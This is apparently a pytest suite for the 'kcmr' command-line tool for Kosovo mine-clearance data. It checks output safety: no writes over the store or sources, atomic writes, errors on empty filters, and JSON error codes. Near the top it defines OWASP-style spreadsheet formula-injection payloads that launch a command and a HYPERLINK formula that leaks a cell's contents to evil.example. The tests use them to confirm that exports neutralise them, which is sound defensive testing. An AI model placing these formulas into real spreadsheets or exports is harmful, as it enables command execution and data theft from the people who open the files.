"""Issue 14, the output side: each failure found by attacking the package, replayed.

Every test here feeds the real ``kcmr`` command its own hostile input and checks what
the issue says must hold: an output never destroys the store or a source (item 1), no
text from a layer runs as a spreadsheet formula (item 4), an interrupted write leaves
the previous file (item 7), a filter or year that matches nothing is an error or a
notice, never a silent empty result (item 9), and every failure exits with its code and,
with ``--format json``, prints its JSON (item 10). Read-only and full file systems are
in ``test_safety_fs.py``.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import openpyxl
import pytest
from click.testing import CliRunner

from kosovo_cmr.cli.main import cli
from kosovo_cmr.store import open_store

#: What the attack put in the operators' attributes (OWASP's examples).
CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click here")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
HOSTILE_ID = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (CALC, LINK, AT, PLUS, HOSTILE_ID)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def kcmr(*args, store=None):
    """Run ``kcmr`` in-process (click's runner): exit code, stdout and stderr apart."""
    argv = (["--store", str(store)] if store is not None else []) + [str(a) for a in args]
    return CliRunner().invoke(cli, argv, catch_exceptions=False)


def digest(path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture
def store(demo_store, tmp_path):
    """A private copy of the demo store, with a symbolic and a hard link to it."""
    path = tmp_path / "kcmr.gpkg"
    shutil.copyfile(demo_store.uri, path)
    (tmp_path / "alias.gpkg").symlink_to(path)
    os.link(path, tmp_path / "hard.gpkg")
    return path


@pytest.fixture
def rejecting_source(tmp_path):
    """A hazards GeoJSON whose second feature is rejected (no id): it makes a rejects file."""
    square = [[[21.10, 42.60], [21.101, 42.60], [21.101, 42.601], [21.10, 42.601], [21.10, 42.60]]]
    features = [
        {"type": "Feature", "geometry": {"type": "Polygon", "coordinates": square},
         "properties": {"hazard_id": hid, "kind": "CHA", "recorded": "2024-05-01"}}
        for hid in ("SAFE-1", None)
    ]  # fmt: skip
    path = tmp_path / "halo.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    return path


@pytest.fixture
def dummy_dem(tmp_path):
    """A file that exists (click checks no more): the guard refuses before reading it."""
    path = tmp_path / "dem.tif"
    path.write_bytes(b"II*\x00 not read")
    return path


# --- item 1: one output guard for every command -------------------------------------------

#: Every command that writes a file: name -> arguments, given the output path.
WRITERS = {
    "report": lambda out, _: ["report", "--year", "2024", "-o", out],
    "report xlsx": lambda out, _: ["report", "--year", "2024", "--format", "xlsx", "-o", out],
    "export": lambda out, _: ["export", "--layer", "hazards", "--format", "gpkg", "-o", out],
    "map": lambda out, _: ["map", "-o", out],
    "fieldmap": lambda out, _: ["fieldmap", "--all", "-o", out],
    "fadeout": lambda out, _: ["fadeout", "-o", out],
    "buffer-impact -o": lambda out, _: ["buffer-impact", "-o", out],
    "buffer-impact --rings": lambda out, _: ["buffer-impact", "--rings", out],
    "cha-check": lambda out, _: ["cha-check", "-o", out],
    "overlay": lambda out, _: ["overlay", "-o", out],
    "terrain": lambda out, dem: ["terrain", "--dem", dem, "-o", out],
    "rasterize": lambda out, _: ["rasterize", "hazards", "-o", out],
    "forecast -o": lambda out, _: ["forecast", "-o", out],
    "forecast --chart": lambda out, _: ["forecast", "--chart", out],
    "strikes infer": lambda out, _: ["strikes", "infer", "--bootstrap", "0", "-o", out],
    "audit": lambda out, _: ["audit", "-o", out],
    "buffer-impact --readings": lambda out, _: ["buffer-impact", "--readings", "-o", out],
}


@pytest.mark.parametrize("via", ["kcmr.gpkg", "alias.gpkg", "hard.gpkg", "kcmr.gpkg-wal"])
@pytest.mark.parametrize("command", list(WRITERS))
def test_no_command_writes_over_the_store(command, via, store, dummy_dem):
    """``report -o STORE``, ``export -o STORE --overwrite``, ... replaced the GeoPackage."""
    before = digest(store)
    args = WRITERS[command](store.parent / via, dummy_dem)
    result = kcmr(*args, "--overwrite", store=store)
    assert result.exit_code == 1, (command, result.output)
    assert "the store" in result.stderr or "a file of the store" in result.stderr
    assert result.stderr.startswith("kcmr: error: ") and result.stderr.count("\n") == 1
    assert digest(store) == before
    assert len(open_store(store, create=False).read("hazards")) > 0


@pytest.mark.parametrize("via", ["kcmr.gpkg", "alias.gpkg", "hard.gpkg"])
def test_import_rejects_never_go_over_the_store(via, store, rejecting_source):
    """``import --rejects STORE --overwrite`` replaced the GeoPackage with the rejects."""
    before = digest(store)
    result = kcmr("import", rejecting_source, "--layer", "hazards", "--rejects",
                  store.parent / via, "--overwrite", store=store)  # fmt: skip
    assert result.exit_code == 1, result.output
    assert "store" in result.stderr and digest(store) == before


def test_import_rejects_never_go_over_the_source(store, rejecting_source):
    before = digest(rejecting_source)
    result = kcmr("import", rejecting_source, "--layer", "hazards", "--rejects",
                  rejecting_source, "--overwrite", store=store)  # fmt: skip
    assert result.exit_code == 1 and "source" in result.stderr
    assert digest(rejecting_source) == before


def test_the_default_store_is_guarded_too(store, monkeypatch):
    """Without ``--store`` the store is the settings' default: ``./kcmr.gpkg``."""
    monkeypatch.chdir(store.parent)
    before = digest(store)
    result = kcmr("report", "--year", "2024", "-o", "kcmr.gpkg", "--overwrite")
    assert result.exit_code == 1 and "is the store" in result.stderr
    assert digest(store) == before


def _copy_boundaries(boundaries_path, folder: Path) -> Path:
    stem = Path(boundaries_path).with_suffix("")
    for part in Path(boundaries_path).parent.glob(stem.name + ".*"):
        shutil.copyfile(part, folder / part.name)
    return folder / Path(boundaries_path).name


@pytest.mark.parametrize(
    "command",
    ["report --capacity", "report --published", "terrain --dem", "forecast --effort",
     "overlay --boundaries", "buffer-impact --boundaries"],
)  # fmt: skip
def test_no_command_writes_over_its_source(command, store, tmp_path, boundaries_path):
    from kosovo_cmr._resources import layer_file

    sources = {
        "--capacity": layer_file("capacity.csv"),
        "--published": layer_file("published", "mar-2025-kosovo.toml"),
        "--dem": Path(__file__),
        "--effort": layer_file("effort.toml"),
    }
    name, option = command.split()
    if option == "--boundaries":
        source = _copy_boundaries(boundaries_path, tmp_path)
    else:
        source = tmp_path / Path(sources[option]).name
        shutil.copyfile(sources[option], source)
    link = tmp_path / ("link-" + source.name)
    link.symlink_to(source)
    before = digest(source)
    extra = {"report": ["--year", "2024"], "buffer-impact": ["--by", "region"]}.get(name, [])
    out = "--rings" if name == "buffer-impact" else "-o"
    for target in (source, link):
        result = kcmr(name, *extra, option, source, out, target, "--overwrite", store=store)
        assert result.exit_code == 1, (command, result.output)
        assert "is the source file" in result.stderr, result.stderr
    assert digest(source) == before


@pytest.mark.parametrize(
    "args",
    [
        ["buffer-impact", "-o", "{d}/x.gpkg", "--rings", "{d}/x.gpkg"],
        ["buffer-impact", "-o", "{d}/x.gpkg", "--rings", "{d}/link.gpkg"],
        ["forecast", "-o", "{d}/b.png", "--chart", "{d}/b.png"],
    ],
)
def test_two_outputs_of_one_command_are_never_the_same_file(args, store, tmp_path):
    (tmp_path / "x.gpkg").write_text("a file the link names")
    (tmp_path / "link.gpkg").symlink_to(tmp_path / "x.gpkg")
    result = kcmr(*[a.format(d=tmp_path) for a in args], "--overwrite", store=store)
    assert result.exit_code == 1 and "the same file" in result.stderr, result.output


def test_demo_never_replaces_a_store_of_real_features(store, tmp_path, boundaries_path):
    """``kcmr demo`` writes SYNTHETIC layers over the store's: refused on real data."""
    real = open_store(store)
    hazards = real.read("hazards")
    hazards.loc[hazards.index[0], "synthetic"] = False
    real.write(hazards, "hazards")
    before = digest(store)
    result = kcmr("demo", "--out", tmp_path / "demo", "--boundaries", boundaries_path,
                  store=store)  # fmt: skip
    assert result.exit_code == 1
    assert "1 real (non-synthetic) feature(s) in 'hazards'" in result.stderr
    assert digest(store) == before
    shutil.copyfile(store, tmp_path / "kcmr-demo.gpkg")  # the default store of --out
    (tmp_path / "out").mkdir()
    shutil.move(tmp_path / "kcmr-demo.gpkg", tmp_path / "out" / "kcmr.gpkg")
    again = kcmr("demo", "--out", tmp_path / "out", "--boundaries", boundaries_path)
    assert again.exit_code == 1 and (tmp_path / "out" / "kcmr.gpkg").exists()


# --- item 4: no text from a layer runs as a formula ---------------------------------------


@pytest.fixture(scope="module")
def hostile_store(demo_store, tmp_path_factory):
    """The demo store with an attacker's text in operators, districts, names and an id."""
    path = tmp_path_factory.mktemp("hostile") / "kcmr.gpkg"
    shutil.copyfile(demo_store.uri, path)
    store = open_store(path)
    releases = store.read("releases")
    in_2024 = releases.index[releases["date"].dt.year == 2024]
    releases.loc[in_2024[0], "operator"] = CALC
    releases.loc[in_2024[1], "district"] = LINK
    releases.loc[in_2024[2], "operator"] = PLUS
    from kosovo_cmr.workflows.fadeout import cha_findings_from_store

    found = cha_findings_from_store(store)  # a hazard that cha-check lists
    old_id = found.loc[found["check"] == "fadeout_outside_hazard", "hazard_id"].iloc[0]
    hazards = store.read("hazards")
    hazards.loc[hazards["hazard_id"] == old_id, "hazard_id"] = HOSTILE_ID
    hazards.loc[hazards.index[hazards["status"] == "active"][-1], "operator"] = AT
    evidence = store.read("evidence")
    evidence.loc[evidence["hazard_id"] == old_id, "hazard_id"] = HOSTILE_ID
    boundaries = store.read("boundaries")
    boundaries.loc[boundaries.index[0], "municipality"] = LINK
    store.write_many(
        {"releases": releases, "hazards": hazards, "evidence": evidence, "boundaries": boundaries}
    )
    return path


def assert_no_live_formula(rows) -> set[str]:
    """Every field starting like a formula is a number; return the text fields."""
    texts = set()
    for row in rows:
        for value in row:
            if isinstance(value, str) and value.startswith(FORMULA_START):
                float(value)  # a negative number is data, not a formula
            if isinstance(value, str):
                texts.add(value)
    return texts


def neutralised(texts: set[str], *expected: str) -> None:
    for text in expected:
        assert "'" + text in texts, f"{text!r} missing or not neutralised"


def test_report_xlsx_has_no_formula_cell(hostile_store, tmp_path):
    out = tmp_path / "report.xlsx"
    result = kcmr("report", "--year", "2024", "--format", "xlsx", "-o", out, store=hostile_store)
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    neutralised(texts, CALC, LINK, PLUS)


def test_report_csv_values_are_neutralised(hostile_store):
    result = kcmr("report", "--year", "2024", "--format", "csv", store=hostile_store)
    assert result.exit_code == 0, result.output
    texts = assert_no_live_formula(csv.reader(io.StringIO(result.stdout)))
    neutralised(texts, CALC, LINK, PLUS)


def test_export_csv_values_are_neutralised(hostile_store, tmp_path):
    out = tmp_path / "hazards.csv"
    result = kcmr("export", "--layer", "hazards", "--format", "csv", "-o", out,
                  store=hostile_store)  # fmt: skip
    assert result.exit_code == 0, result.output
    with open(out, newline="", encoding="utf-8") as fh:
        texts = assert_no_live_formula(csv.reader(fh))
    neutralised(texts, AT, HOSTILE_ID)


@pytest.fixture(scope="module")
def small_dem(tmp_path_factory):
    """A coarse sloping DEM over Kosovo (EPSG:4326), for the terrain command."""
    import rasterio
    from rasterio.transform import from_origin

    path = tmp_path_factory.mktemp("dem") / "dem.tif"
    rows, cols = np.mgrid[0:180, 0:240]
    height = (rows * 8.0 + cols * 3.0).astype("float32")
    with rasterio.open(path, "w", driver="GTiff", width=240, height=180, count=1,
                       dtype="float32", crs="EPSG:4326",
                       transform=from_origin(19.9, 43.35, 0.0085, 0.0085)) as dst:  # fmt: skip
        dst.write(height, 1)
    return path


@pytest.mark.parametrize(
    "args, expected, to_file",
    [
        (["cha-check", "--all-hazards", "--format", "csv"], [HOSTILE_ID], False),  # -o: a layer
        (["buffer-impact", "--by", "hazard", "--format", "csv"], [HOSTILE_ID], True),
        (["overlay", "--by", "municipality", "--format", "csv"], [LINK], True),
        (["terrain", "--dem", "{dem}", "--format", "csv"], [HOSTILE_ID], True),
    ],
)
def test_every_csv_a_command_prints_or_writes_is_neutralised(
    args, expected, to_file, hostile_store, small_dem, tmp_path
):
    args = [a.format(dem=small_dem) for a in args]
    printed = kcmr(*args, store=hostile_store)
    assert printed.exit_code == 0, printed.output
    texts = [printed.stdout]
    if to_file:
        out = tmp_path / "table.csv"
        written = kcmr(*args, "-o", out, store=hostile_store)
        assert written.exit_code == 0, written.output
        texts.append(out.read_text(encoding="utf-8"))
    for text in texts:
        found = assert_no_live_formula(csv.reader(io.StringIO(text)))
        neutralised(found, *expected)


# --- item 7: every output via a temporary file, renamed -----------------------------------

#: A writer per kind of file: arguments given the target, and the target's name.
ATOMIC = {
    "report md": (["report", "--year", "2024", "-o", "{t}"], "report.md"),
    "report xlsx": (["report", "--year", "2024", "--format", "xlsx", "-o", "{t}"], "r.xlsx"),
    "export geojson": (["export", "--layer", "hazards", "-o", "{t}"], "h.geojson"),
    "export gpkg": (["export", "--layer", "hazards", "-o", "{t}"], "h.gpkg"),
    "export shp": (["export", "--layer", "hazards", "-o", "{t}"], "h.shp"),
    "export csv": (["export", "--layer", "hazards", "-o", "{t}"], "h.csv"),
    "rasterize": (["rasterize", "density", "-o", "{t}"], "density.tif"),
    "overlay csv": (["overlay", "--format", "csv", "-o", "{t}"], "overlay.csv"),
    "fadeout layer": (["fadeout", "-o", "{t}"], "clusters.gpkg"),
    "burn-down chart": (["forecast", "--what", "scenarios", "--chart", "{t}"], "b.png"),
}

_KILL_AT_RENAME = """
import os, sys
folder, replace = os.path.realpath(sys.argv[1]), os.replace


def kill_at_rename(src, dst, *args, **kwargs):
    if os.path.dirname(os.path.realpath(dst)) == folder:  # the output, nothing else
        os.kill(os.getpid(), 9)  # the write is done, not yet renamed: the worst moment
    return replace(src, dst, *args, **kwargs)


os.replace = kill_at_rename
from kosovo_cmr.cli.main import main
main(sys.argv[2:])
"""


@pytest.mark.parametrize("writer", list(ATOMIC))
def test_a_writer_killed_mid_write_leaves_the_previous_file(writer, demo_store, tmp_path):
    """The field sheet PDF was written in place: a kill left a truncated file."""
    args, name = ATOMIC[writer]
    out = tmp_path / "out"
    out.mkdir()
    target = out / name
    old = {target: b"the previous, good file"}
    if name.endswith(".shp"):
        old.update({target.with_suffix(s): b"old " + s.encode() for s in (".dbf", ".shx")})
    for path, content in old.items():
        path.write_bytes(content)
    argv = ["--store", demo_store.uri, *[a.format(t=target) for a in args], "--overwrite"]
    run = subprocess.run(
        [sys.executable, "-c", _KILL_AT_RENAME, str(out), *argv], capture_output=True
    )
    assert run.returncode == -9, run.stderr.decode()[-2000:]
    for path, content in old.items():
        assert path.read_bytes() == content, path
    written = [p for p in out.iterdir() if ".part-" in p.name]  # the new file, whole
    assert written and all(p.stat().st_size > 0 for p in written)


@pytest.mark.parametrize("writer", list(ATOMIC))
def test_a_writer_that_completes_replaces_the_file_whole(writer, demo_store, tmp_path):
    args, name = ATOMIC[writer]
    target = tmp_path / name
    target.write_bytes(b"the previous file")
    result = kcmr(*[a.format(t=target) for a in args], "--overwrite", store=demo_store.uri)
    assert result.exit_code == 0, result.output
    assert target.read_bytes() != b"the previous file"
    assert not [p.name for p in tmp_path.iterdir() if ".part-" in p.name]


def test_a_shapefile_replaced_keeps_no_stale_sidecar(demo_store, tmp_path):
    target = tmp_path / "h.shp"
    stale = tmp_path / "h.qix"  # not ours: left alone
    for suffix in (".shp", ".dbf", ".shx", ".cpg", ".fields.json"):
        target.with_suffix(suffix).write_text("old")
    stale.write_text("spatial index of someone else's tool")
    result = kcmr("export", "--layer", "hazards", "-o", target, "--overwrite", store=demo_store.uri)
    assert result.exit_code == 0, result.output
    import pyogrio

    assert len(pyogrio.read_dataframe(target)) == len(demo_store.read("hazards"))
    assert json.loads(target.with_suffix(".fields.json").read_text())["hazard_id"] == "hazard_id"
    assert stale.read_text().startswith("spatial index")


# --- item 9: a filter that matches nothing is never a silent empty result -----------------


def test_a_report_year_outside_the_data_lists_the_years(demo_store):
    result = kcmr("report", "--year", "2031", store=demo_store.uri)
    assert result.exit_code == 1
    assert "no release is dated 2031" in result.stderr and "2020-2024" in result.stderr


def test_an_overlay_date_before_every_hazard_says_so(demo_store):
    result = kcmr("overlay", "--date", "1990-01-01", "--format", "json", store=demo_store.uri)
    assert result.exit_code == 0, result.output
    assert all(row["cha_count"] == 0 for row in json.loads(result.stdout)["rows"])
    assert "no hazard open on 1990-01-01" in result.stderr


def test_no_active_hazard_or_evidence_says_so(demo_store, tmp_path, small_dem):
    path = tmp_path / "closed.gpkg"
    shutil.copyfile(demo_store.uri, path)
    store = open_store(path)
    hazards = store.read("hazards").assign(status="released")
    store.write_many({"hazards": hazards, "evidence": store.read("evidence").iloc[:0]})
    terrain = kcmr("terrain", "--dem", small_dem, store=path)
    assert terrain.exit_code == 0 and "no active hazard" in terrain.stderr
    assert "statuses present: released" in terrain.stderr
    fadeout = kcmr("fadeout", store=path)
    assert fadeout.exit_code == 0 and "holds no evidence point" in fadeout.stderr
    check = kcmr("cha-check", store=path)
    assert check.exit_code == 0 and "no hazard to check" in check.stderr


# --- item 10: every failure its code, and its JSON when JSON was asked --------------------


def test_a_failure_is_one_json_object_on_stdout_when_json_was_asked(demo_store, tmp_path):
    result = kcmr("report", "--year", "2024", "--format", "json",
                  store=tmp_path / "missing.gpkg")  # fmt: skip
    assert result.exit_code == 4
    doc = json.loads(result.stdout)  # exactly one object: json.loads refuses more
    assert doc == {
        "error": {"code": 4, "class": "StoreError",
                  "message": f"store not found: {tmp_path / 'missing.gpkg'}"},
        "exit_code": 4,
    }  # fmt: skip
    assert result.stderr == f"kcmr: error: {doc['error']['message']}\n"
    text = kcmr("report", "--year", "2024", store=tmp_path / "missing.gpkg")
    assert text.exit_code == 4 and text.stdout == ""


def test_a_usage_error_is_exit_2_and_json_when_asked(demo_store):
    result = kcmr("overlay", "--format", "json", "--by", "district", store=demo_store.uri)
    assert result.exit_code == 2
    error = json.loads(result.stdout)["error"]
    assert error["code"] == 2 and error["class"] == "UsageError" and "district" in error["message"]
    assert "Usage:" in result.stderr


def test_an_unexpected_error_is_exit_70_and_json(demo_store, monkeypatch):
    from kosovo_cmr.workflows import fadeout

    def defect(*args, **kwargs):
        raise ZeroDivisionError("division by zero in a defect")

    monkeypatch.setattr(fadeout, "contamination_by_unit", defect)
    result = kcmr("overlay", "--format", "json", store=demo_store.uri)
    assert result.exit_code == 70
    error = json.loads(result.stdout)["error"]
    assert error["class"] == "ZeroDivisionError" and "rerun with -v" in error["message"]


def test_a_long_message_is_cut_to_one_line_and_whole_with_verbose(tmp_path):
    deep = tmp_path / ("x" * 120) / ("y" * 120) / "kcmr.gpkg"
    quiet = kcmr("report", "--year", "2024", store=deep)
    assert quiet.exit_code == 4
    line = quiet.stderr.strip()
    assert "\n" not in line and len(line) <= 220 and "whole message with -v" in line
    loud = CliRunner().invoke(cli, ["-v", "--store", str(deep), "report", "--year", "2024"])
    assert loud.exit_code == 4 and f"store not found: {deep}" in loud.stderr


def test_every_exit_code_is_documented_in_the_help():
    import re

    from kosovo_cmr.errors import EXIT_CODES

    text = kcmr("--help").stdout
    for code in EXIT_CODES:
        assert re.search(rf"^\s+{code}  \S", text, re.MULTILINE), code
